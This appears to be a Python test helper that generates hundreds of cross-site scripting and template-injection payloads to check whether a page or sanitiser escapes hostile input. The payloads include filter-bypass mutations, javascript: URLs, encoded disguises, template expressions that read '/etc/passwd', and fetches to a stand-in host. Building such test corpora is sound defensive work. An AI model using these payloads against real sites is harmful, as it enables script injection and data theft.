"""Up to a thousand ways to make a page run what somebody else wrote: families that real filters and real browsers fell for.

Each sets `window.hit`, opens a dialog, or fetches something from `ELSEWHERE`; a page that shows them as text does none of it.
"""

from __future__ import annotations

import html
import os
import random
from collections.abc import Iterator
from itertools import product
from urllib.parse import quote

COUNT = int(os.environ.get("SECONDLOOK_PAYLOADS", "150"))  # `make hostile` tries a thousand
ELSEWHERE = "elsewhere.example"
RUN = "top.hit=window.hit=1;alert(1)"
_EVENTS = {
    "img src=x": "onerror", "svg": "onload", "body": "onload", "video src=x": "onerror", "audio src=x": "onerror", "input autofocus": "onfocus",
    "select autofocus": "onfocus", "textarea autofocus": "onfocus", "details open": "ontoggle", "marquee": "onstart", "iframe src=/": "onload",
    "object data=x": "onerror", "style": "onload", "link rel=stylesheet href=x": "onerror", "image src=x": "onerror", "keygen autofocus": "onfocus",
    "svg><animate attributeName=x dur=1s": "onbegin", "svg><set attributeName=x": "onbegin", "math><mtext tabindex=1 autofocus": "onfocus",
    "video><source": "onerror", "button autofocus": "onfocus", "a href=# autofocus": "onfocus", "div contenteditable autofocus": "onfocus",
}  # fmt: skip
_BREAKS = (
    "",
    '">',
    "'>",
    "-->",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    '" ',
    "]]>",
    "</option></select>",
    "</noscript>",
)
_GAPS = (" ", "/", "\t", "\n", "\f", " / ")
_FETCHES = (
    "<img src={}>", "<img srcset='{} 2x'>", "<iframe src={}></iframe>", "<object data={}></object>", "<embed src={}>", "<video poster={}></video>",
    "<audio src={} autoplay></audio>", "<link rel=stylesheet href={}>", "<link rel=prefetch href={}>", "<link rel=preconnect href={}>",
    "<link rel=dns-prefetch href={}>", "<meta http-equiv=refresh content='0;url={}'>", "<base href={}>", "<input type=image src={}>",
    "<table background={}><tr><td background={}>", "<svg><image href={} /></svg>", "<svg><use href={}#x /></svg>", "<style>@import '{}';</style>",
    "<div style='background:url({})'>x</div>", "<style>*{{background:url({})}}</style>", "<body background={}>", "<script src={}></script>",
    "<link rel=icon href={}>", "<link rel=manifest href={}>", "<style>@font-face{{font-family:x;src:url({})}}*{{font-family:x}}</style>",
    "<a href={} ping={}>x</a>", "<form action={}><input type=submit autofocus></form>", "<picture><source srcset={}><img></picture>",
    "<svg><style>@import '{}'</style></svg>", "<math href={}>x</math>", "<frameset><frame src={}></frameset>", "<track src={}>",
    "<svg><feImage href={} /></svg>", "<q cite={}>x</q>", "<link rel=modulepreload href={}>", "<iframe srcdoc=\"<img src='{}'>\"></iframe>",
)  # fmt: skip
_MUTATIONS = (
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={}&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    '<svg></p><style><a id="</style><img src=1 onerror={}>">',
    "<svg><style>&lt;img src=x onerror={}&gt;</style></svg>",
    '<svg><desc><![CDATA[</desc><img src=x onerror={}>]]></svg>',
    "<math><annotation-xml encoding='text/html'><img src=x onerror={}></annotation-xml></math>",
    '<table><td><svg><style><a title="</style><img src=x onerror={}>"></td></table>',
    "<template><img src=x onerror={}></template>",
    "<xmp><img alt='</xmp><img src=x onerror={}>'>",
    "<noembed><img title='</noembed><img src=x onerror={}>'></noembed>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror={}>'>",
    "<!--><img src=x onerror={}>-->",
    "<!--!><img src=x onerror={}>--!>",
    "<![CDATA[><img src=x onerror={}>]]>",
    "<?xml ?><img src=x onerror={}>",
    "<%<!--'%><img src=x onerror={}>",
    "<title><img src=x onerror={}></title><textarea></textarea><img src=x onerror={}>",
    "<p><a><table><p><a><img src=x onerror={}>",
    "<svg><foreignObject><img src=x onerror={}></foreignObject></svg>",
    "<iframe srcdoc='&lt;img src=x onerror={}&gt;'></iframe>",
    "<style><style /><img src=x onerror={}>",
    "<a href='x' title='<img src=x onerror={}>'></a><b title=`<img src=x onerror={}>`>",
    "<plaintext><img src=x onerror={}>",
)  # fmt: skip
_SCHEMES = (
    "javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "java\tscript:{}", "java\nscript:{}", "\x01javascript:{}", "javascript&colon;{}", "&#106;avascript:{}",
    "javascript&#58;{}", "javascript://x%0a{}", "data:text/html,<script>{}</script>", "data:text/html;base64,PHNjcmlwdD50b3AuaGl0PTE8L3NjcmlwdD4=",
    "vbscript:{}", "jav&#x0A;ascript:{}", "javascript:/*--></title></style></textarea></script><svg onload='{}'>", "blob:{}", "filesystem:{}", "view-source:javascript:{}",
)  # fmt: skip
_TEMPLATES = (
    "{{7*1871}}", "{{config}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "{% for x in range(9) %}zz{% endfor %}", "${{7*1871}}", "#{7*1871}", "<%= 7*1871 %>",
    "${7*1871}", "{{constructor.constructor('{}')()}}", "[[7*1871]]", "{{request.application.__globals__}}", "{{self.__init__.__globals__.__builtins__}}", "{#x#}", "%s%n%x",
    "{receipt}{phone}{0.__class__}", "$1$2$&$`", "{{'<img src=x onerror={}>'|safe}}", "{% include '/etc/passwd' %}", "__proto__", "constructor[prototype]",
)  # fmt: skip


def payloads() -> list[str]:
    """COUNT different ones, the same on every run, some of every family."""
    families = [
        list(dict.fromkeys(family))
        for family in (_tags(), _fetches(), _mutations(), _urls(), _templates(), _disguised(), _attributes())
    ]
    chance = random.Random(11)
    for family in families:
        chance.shuffle(family)
    found: dict[str, None] = {}
    while len(found) < COUNT:
        for family in families:
            if family and len(found) < COUNT:
                found[family.pop()] = None
    return list(found)


def _tags() -> Iterator[str]:
    for (tag, event), before, gap in product(_EVENTS.items(), _BREAKS, _GAPS):
        yield f"{before}<{tag.replace(' ', gap)}{gap}{event}={RUN}>"
    for before, name in product(
        _BREAKS, ("script", "ScRiPt", "script/x", "script\n", "svg><script", "script type=module", "scr\0ipt", "script xmlns=x")
    ):
        yield f"{before}<{name}>{RUN}</script>"


def _attributes() -> Iterator[str]:
    events = (
        "onmouseover",
        "onfocus",
        "onpointerenter",
        "onanimationstart",
        "ontransitionend",
        "onerror",
        "onload",
        "onfocusin",
        "oncontentvisibilityautostatechange",
    )
    for mark, event, gap in product(('"', "'", "`", "", '\\"', "&quot;", "&#34;", "%22", "\u201d"), events, _GAPS):
        yield f"x{mark}{gap}autofocus tabindex=1 style=animation:x{gap}{event}={mark}{RUN}{mark}{gap}y={mark}"


def _fetches() -> Iterator[str]:
    addresses = (
        f"//{ELSEWHERE}/x",
        f"https://{ELSEWHERE}/x",
        f"http://{ELSEWHERE}:81/x",
        f"\\\\{ELSEWHERE}\\x",
        f"/\\{ELSEWHERE}/x",
        f"https:{ELSEWHERE}/x",
        f"//x@{ELSEWHERE}/x",
    )
    for pattern, address, before in product(_FETCHES, addresses, ("", '">', "</textarea>")):
        yield before + pattern.format(address, address)


def _mutations() -> Iterator[str]:
    for pattern, before in product(_MUTATIONS, _BREAKS):
        yield before + pattern.format(RUN, RUN)


def _urls() -> Iterator[str]:
    places = (
        "{}",
        "<a href='{}' autofocus>x</a>",
        "<iframe src='{}'></iframe>",
        "<form action='{}'><button autofocus>x</button></form>",
        "<object data='{}'></object>",
        "[x]({})",
    )
    for scheme, place in product(_SCHEMES, places):
        yield place.format(scheme.format(RUN))


def _templates() -> Iterator[str]:
    for template, before in product(_TEMPLATES, ("", "<b>", "</script>", "&", "'", '"')):
        yield before + template.replace("'{}'", f"'{RUN}'")


def _disguised() -> Iterator[str]:
    base = [
        f"<img src=x onerror={RUN}>",
        f"<svg onload={RUN}>",
        f"<script>{RUN}</script>",
        f"<img src=//{ELSEWHERE}/y>",
        f'"><svg onload={RUN}>',
    ]
    for plain in base:
        wide = "".join(chr(ord(char) + 0xFEE0) if "!" <= char <= "~" else char for char in plain)
        yield from (html.escape(plain), html.escape(html.escape(plain)), quote(plain), quote(quote(plain)), wide)
        yield "".join(f"&#{ord(char)};" for char in plain)
        yield "".join(f"&#x{ord(char):x};" for char in plain)
        yield "".join(f"&#{ord(char):07d}" for char in plain)
        yield "".join(f"\\u{ord(char):04x}" for char in plain)
        yield plain.replace("<", "+ADw-").replace(">", "+AD4-")
        for char in (
            "\0",
            "\u2028",
            "\u202e",
            "\u200b",
            "\ufeff",
            "\x0b",
            "\x1b",
            "\u0085",
            "\ud800",
            "\U000e0041",
            "\u0338",
            "\r",
        ):
            yield from (
                plain.replace("<", f"<{char}"),
                f"{char}{plain}",
                plain.replace(" ", char),
                plain.replace("=", f"{char}="),
            )
        yield plain.replace("<", "\u02c2").replace(">", "\u02c3")
        yield plain.replace("<", "\u3c00")
        yield plain.replace("<", "\xbc").replace(">", "\xbe")
        yield plain.upper()
        yield "".join(char + "\u0301" for char in plain)
